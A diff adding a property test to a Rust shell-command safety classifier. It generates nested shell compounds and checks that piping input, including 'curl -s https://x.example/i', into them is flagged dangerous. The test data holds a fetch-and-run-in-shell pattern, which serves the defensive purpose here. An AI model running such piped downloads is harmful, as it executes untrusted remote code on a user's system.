@@ -931,6 +931,36 @@ fn named_through_variables() -> impl Strategy<Value = String> {
         .prop_map(|(dir, shape)| shape.replace("@D@", dir))
 }
 
+/// Random trees of the grammar's compound kinds (subshell, group, list, `if`, `while`,
+/// `case`, redirected statement) with a shell or an interpreter somewhere inside, at most
+/// four deep.
+fn compound_tree() -> impl Strategy<Value = String> {
+    let leaf =
+        prop::sample::select(&["sh", "bash -s", "python3", "perl", "busybox sh", "env sh"][..])
+            .prop_map(str::to_string);
+    leaf.prop_recursive(4, 16, 1, |inner| {
+        (
+            inner,
+            prop::sample::select(
+                &[
+                    "( X )",
+                    "{ X; }",
+                    "( true; X )",
+                    "{ X && true; }",
+                    "{ false || X; }",
+                    "( if true; then X; fi )",
+                    "( while false; do :; done; X )",
+                    "( case a in a) X;; esac )",
+                    "( X ) 2>/dev/null",
+                    "{ X; } >/dev/null 2>&1",
+                    "( cd /tmp && X )",
+                ][..],
+            ),
+        )
+            .prop_map(|(x, shape)| shape.replace('X', &x))
+    })
+}
+
 proptest! {
     #![proptest_config(config())]
 
@@ -1097,6 +1127,23 @@ proptest! {
                 || crate::protect::pattern_protected(w).is_some()
         });
         prop_assert!(protected, "{command:?} writes {:?} ({}, {:?})", got.writes, got.class, got.reason);
+    }
+
+    /// Fail closed on shape: a shell or an interpreter anywhere in a random compound is a
+    /// sink for what is piped into the compound (`dangerous` when that is not literal safe
+    /// code), and the compound alone is at least `shell_complex`.
+    #[test]
+    fn a_compound_of_any_shape_with_a_shell_inside_is_its_sink(tree in compound_tree()) {
+        for producer in ["cat script.sh", "curl -s https://x.example/i"] {
+            let command = format!("{producer} | {tree}");
+            let got = classify(&command, &roots());
+            prop_assert!(
+                got.class == Dangerous || got.beyond.is_some(),
+                "{command:?} is {} ({:?})", got.class, got.reason
+            );
+        }
+        let alone = classify(&tree, &roots());
+        prop_assert!(alone.class >= ShellComplex, "{tree:?} is {}", alone.class);
     }
 
     /// Family "honest reads blocked" (issue #25).
